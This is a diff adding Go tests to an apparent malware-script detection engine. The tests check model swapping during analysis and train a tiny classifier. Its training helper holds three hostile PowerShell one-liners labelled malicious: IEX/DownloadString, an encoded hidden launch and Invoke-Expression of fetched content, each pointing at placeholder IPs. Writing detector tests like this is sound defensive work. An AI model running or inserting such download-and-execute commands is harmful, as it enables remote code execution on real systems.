@@ -374,3 +374,62 @@ func TestEnricherMayRaiseNeverLower(t *testing.T) {
 		t.Errorf("raising enricher: got %s / %s, want suspicious / llm:test", r.Verdict.Label, r.Explanation.Source)
 	}
 }
+
+func TestSetModelWhileAnalysing(t *testing.T) {
+	e := newEngine(t, nil)
+	if got := e.Info().ModelVersion; got != "rules" {
+		t.Fatalf("model version: got %s, want rules", got)
+	}
+	m := trainTiny(t)
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for range 50 {
+			if _, err := e.Analyze(context.Background(), analysis.Sample{Data: []byte("Write-Host hi\n"), Name: "a.ps1"}); err != nil {
+				t.Error(err)
+				return
+			}
+		}
+	}()
+	e.SetModel(m)
+	<-done
+	r, err := e.Analyze(context.Background(), analysis.Sample{Data: []byte("Write-Host hi\n"), Name: "a.ps1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Engine.ModelVersion != m.Version() || r.Verdict.Source == "rules" {
+		t.Errorf("after SetModel: got model %s, verdict source %s; want %s from the model", r.Engine.ModelVersion, r.Verdict.Source, m.Version())
+	}
+	e.SetModel(nil)
+	if got := e.Info().ModelVersion; got != "rules" {
+		t.Errorf("after SetModel(nil): got %s, want rules", got)
+	}
+}
+
+// trainTiny trains a model on a handful of engine-made examples.
+func trainTiny(t *testing.T) *verdict.Model {
+	t.Helper()
+	e := newEngine(t, nil)
+	var ex []verdict.Example
+	for i, s := range []string{
+		"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\n",
+		"powershell -nop -w hidden -enc SQBFAFgA\n",
+		"Invoke-Expression (iwr http://198.51.100.2/x).Content\n",
+		"Get-ChildItem C:\\Logs | Remove-Item\n",
+		"Write-Host 'backup done'\n",
+		"Copy-Item D:\\data E:\\backup -Recurse\n",
+	} {
+		_, x, err := e.Examine(context.Background(), analysis.Sample{Data: []byte(s), Name: "x.ps1"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		ex = append(ex, verdict.Example{Features: x, Malicious: i < 3, Language: lang.PowerShell})
+	}
+	opt := verdict.DefaultTrainOptions()
+	opt.MinFeatureCount = 1
+	m, err := verdict.Train(ex, opt)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
